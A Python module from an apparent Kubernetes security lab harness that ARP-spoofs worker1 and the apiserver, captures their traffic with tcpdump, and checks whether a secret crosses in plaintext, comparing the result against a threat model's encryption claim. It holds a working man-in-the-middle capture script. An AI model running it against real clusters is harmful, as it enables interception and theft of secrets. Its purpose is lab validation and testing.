"""Read along on the kubelet's way to the apiserver, from another container on the network.

The attacker tells both ends that it is the other one (ARP has no authentication), passes on
what it gets, and reads it on the way. A container's default capabilities are enough for that.
"""

from __future__ import annotations

import json
import re
import secrets
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from functools import partial
from typing import TYPE_CHECKING

from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Channel, View, build_model
from labkit.techniques._base import NETWORK, SECRETS, Prediction, Technique
from labkit.techniques._reach import attacker, inside, run
from labkit.techniques._secret import Sample, Secret, sample, true_secret
from labkit.techniques._verdict import Setting, Verdict
from labkit.techniques._wire import (
    Content,
    Stream,
    content,
    entropy,
    responses,
    streams,
    tls_records,
)

if TYPE_CHECKING:
    from labkit.cluster import Environment
    from labkit.lab import Lab

__all__ = ["TECHNIQUE", "eavesdrop", "judge"]

CLIENT = "kubelet@worker1"
#: No pod on worker1 uses this secret, so its kubelet has to fetch it for one that does.
WANTED = ("payments", "card-processor", "api-key")
POD = "labkit-reader"
#: Seconds for the whole capture, for the poisoning to work, and for the pod to start.
LIMIT, PATIENCE = 90.0, 30.0
# Ended in order, arpspoof takes five seconds to set things right; the lab does it faster.
CAPTURE = """
set -u; dir=$1 filter=$2 client=$3 server=$4
mkdir -p "$dir"; trap 'rm -rf "$dir"' EXIT
tcpdump -i eth0 -n -s 0 -U --immediate-mode -w "$dir/pcap" "$filter" 2>"$dir/tcpdump" & tcpdump=$!
arpspoof -i eth0 -t "$client" "$server" >/dev/null 2>&1 & one=$!
arpspoof -i eth0 -t "$server" "$client" >/dev/null 2>&1 & two=$!
while [ ! -e "$dir/stop" ]; do
  kill -0 $tcpdump && kill -0 $one && kill -0 $two || { cat "$dir/tcpdump" >&2; exit 9; }
  sleep 0.1
done
kill -KILL $one $two; kill $tcpdump; wait
cat "$dir/pcap"
"""


def predict(view: View, foothold: str) -> Prediction:
    """Say what the model says: whether the kubelet's channel is encrypted."""
    claim = view.channels(TECHNIQUE.about)[0].encryption
    return Prediction(claim.value == "none", (str(claim),))


def eavesdrop(lab: Lab, foothold: str) -> Verdict:
    """Capture what the kubelet of worker1 says to the apiserver, and look for a secret in it.

    To see something worth seeing at once, a pod is started on worker1 that needs a secret
    which its kubelet does not know yet; an attacker would just wait.

    Returns
    -------
    Verdict

    Raises
    ------
    ProbeTimeout
        Nothing was captured, or nothing that says anything.
    """
    channel = TECHNIQUE.channels(build_model(lab.environment))[0]
    secret = true_secret(lab, *WANTED)
    client, server = "worker1", channel.server.split("@")[1]
    if run(lab, attacker(lab), ["cat", "/proc/sys/net/ipv4/ip_forward"]).text.strip() != "1":
        raise ProbeError(f"{attacker(lab)} forwards nothing: to poison would be to cut off")
    try:
        with _capture(lab, client, server, int(channel.port or 0)) as stop:
            ports = _ports(lab, client, channel)
            _start_pod(lab, client)
            ports |= _ports(lab, client, channel)
            pcap = stop()
    finally:
        _remove_pod(lab)
    captured = [s for s in streams(pcap, int(channel.port or 0)) if s.port in ports]
    return judge(lab.mode, channel, secret, captured)


def judge(mode: str, channel: Channel, secret: Secret, captured: list[Stream]) -> Verdict:
    """Say what the captured connections give away.

    Raises
    ------
    ProbeTimeout
        Nothing was captured in one of the directions, or something without the secret in it.
    """
    seen = content(captured)
    if not any(s.to_server for s in captured) or not any(s.to_client for s in captured):
        raise ProbeTimeout(f"{mode}: no packets of {channel.id} were captured")
    asked = [b"".join(run) for s in captured for run in s.to_server]
    got = [b"".join(run) for s in captured for run in s.to_client]
    texts = [*asked, *got, *(text for data in got for text in responses(data))]
    found = next((text for text in reversed(texts) if secret.found_in(text)), b"")
    fetched = f"the kubelet fetched it meanwhile: pod {secret.namespace}/{POD}, which needs it, ran"
    evidence = [f"captured in both directions: {channel.id}"]
    if found:
        evidence += _question(asked, secret)
        evidence.append(f"read: {secret.proof}")
        reason, control, shown = "plaintext HTTP, the secret is in it", "", found
    elif seen.kind == "TLS":
        evidence.append("0 bytes outside TLS records; the secret is nowhere in them")
        reason, control = "every payload is a TLS record", fetched
        shown = max(got, key=len)
    else:
        raise ProbeTimeout(f"{mode}: plaintext of {channel.id} was captured, but not the secret")
    return Verdict(
        TECHNIQUE.name,
        mode,
        NETWORK,
        bool(found),
        reason,
        tuple(evidence),
        control,
        _details(channel, secret, seen, shown),
    )


def _details(
    channel: Channel, secret: Secret, seen: Content, shown: bytes
) -> dict[str, Content | Sample | float]:
    headers = tuple((start, start + 5) for start, _, _ in tls_records(shown) or ())
    caption = f"{channel.server} to {channel.client}"
    return {
        "content": seen,
        "entropy": entropy(shown),
        "sample": sample(caption, shown, secret, headers),
    }


def _question(texts: list[bytes], secret: Secret) -> list[str]:
    """Say with what request the secret was asked for."""
    path = rf"GET (/api/v1/namespaces/{secret.namespace}/secrets)[^ ]*{secret.name}[^ ]* HTTP"
    for text in texts:
        if match := re.search(path.encode(), text):
            return [f"read: GET {match[1].decode()}, only {secret.name}"]
    return []


@contextmanager
def _capture(lab: Lab, client: str, server: str, port: int) -> Iterator[Callable[[], bytes]]:
    """Stand between two machines, and give a function that ends it and returns what was seen."""
    folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
    ends = [inside(lab, client), inside(lab, server)]
    victims = ((client, ends[1]), (server, ends[0]))
    filters = f"tcp port {port} and host {ends[0]} and host {ends[1]}"
    argv = ["bash", "-c", CAPTURE, "capture", folder, filters, *ends]
    with ThreadPoolExecutor(max_workers=1) as pool:
        future = pool.submit(run, lab, attacker(lab), argv, timeout=LIMIT, check=True)

        def stop() -> bytes:
            run(lab, attacker(lab), ["touch", f"{folder}/stop"])
            return future.result().stdout

        try:
            own = run(lab, attacker(lab), ["cat", "/sys/class/net/eth0/address"]).text.strip()
            for victim, other in victims:
                _wait(f"{victim} believes the attacker", partial(_is_at, lab, victim, other, own))
            yield stop
        finally:
            if not future.done():
                run(lab, attacker(lab), ["sh", "-c", f"mkdir -p {folder}; touch {folder}/stop"])
                future.exception()
            for victim, other in victims:
                run(lab, victim, ["ip", "neigh", "flush", "to", other, "dev", "eth0"])


def _is_at(lab: Lab, node: str, address: str, mac: str) -> bool:
    """Say whether a machine takes the owner of a MAC for that of an address."""
    shown = run(lab, node, ["ip", "neigh", "show", "to", address, "dev", "eth0"])
    return f"lladdr {mac} " in shown.text


def _ports(lab: Lab, node: str, channel: Channel) -> set[int]:
    """Return the local ports of a client's connections."""
    argv = ["ss", "--tcp", "--numeric", "--processes", "--no-header", "dport", f"= :{channel.port}"]
    process = channel.client.split("@")[0]
    lines = run(lab, node, argv, check=True).text.splitlines()
    return {int(line.split()[3].rpartition(":")[2]) for line in lines if f'"{process}"' in line}


def _start_pod(lab: Lab, node: str) -> None:
    namespace, name, key = WANTED
    container = {
        "name": "reader",
        "image": "labkit/workload:1",
        "imagePullPolicy": "Never",
        "command": ["sleep", "infinity"],
        "env": [{"name": "FOUND", "valueFrom": {"secretKeyRef": {"name": name, "key": key}}}],
        "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
    }
    user = {"runAsNonRoot": True, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}}
    spec = {
        "nodeName": node,
        "terminationGracePeriodSeconds": 0,
        "securityContext": user,
        "containers": [container],
    }
    metadata = {"name": POD, "namespace": namespace}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec}
    _remove_pod(lab)
    lab.kubectl("create", "--filename=-", stdin=json.dumps(pod).encode())
    _wait(f"pod {namespace}/{POD} runs", lambda: _phase(lab) == "Running")


def _phase(lab: Lab) -> str:
    namespace = f"--namespace={WANTED[0]}"
    return lab.kubectl("get", "pod", POD, namespace, "--output=jsonpath={.status.phase}").text


def _remove_pod(lab: Lab) -> None:
    namespace = f"--namespace={WANTED[0]}"
    lab.kubectl("delete", "pod", POD, namespace, "--ignore-not-found", "--timeout=20s")


def _wait(what: str, reached: Callable[[], bool]) -> None:
    deadline = time.monotonic() + PATIENCE
    while not reached():
        if time.monotonic() > deadline:
            raise ProbeTimeout(f"not within {PATIENCE:g} s: {what}")
        time.sleep(0.2)


def _settings(env: Environment) -> list[Setting]:
    """Return which server the kubelet is told to call."""
    config = env.component(CLIENT).kubeconfig
    if config is None:
        return []
    return [("whom the kubelet calls", config.server.value, str(config.server.source))]


TECHNIQUE = Technique(
    name="eavesdrop",
    title="Read a secret on its way from the apiserver to a kubelet",
    footholds=(NETWORK,),
    grants=(SECRETS,),
    about="kubelet@worker1 -> *@master:*",
    properties=("encryption",),
    attack=("T1557.002", "T1040"),
    stride=("information disclosure",),
    cwe=("CWE-319",),
    sources=(
        "Securing communications in Kubernetes (2016), Eavesdropping",
        "https://attack.mitre.org/techniques/T1557/002/",
        "https://attack.mitre.org/techniques/T1040/",
    ),
    predict=predict,
    execute=eavesdrop,
    settings=_settings,
)
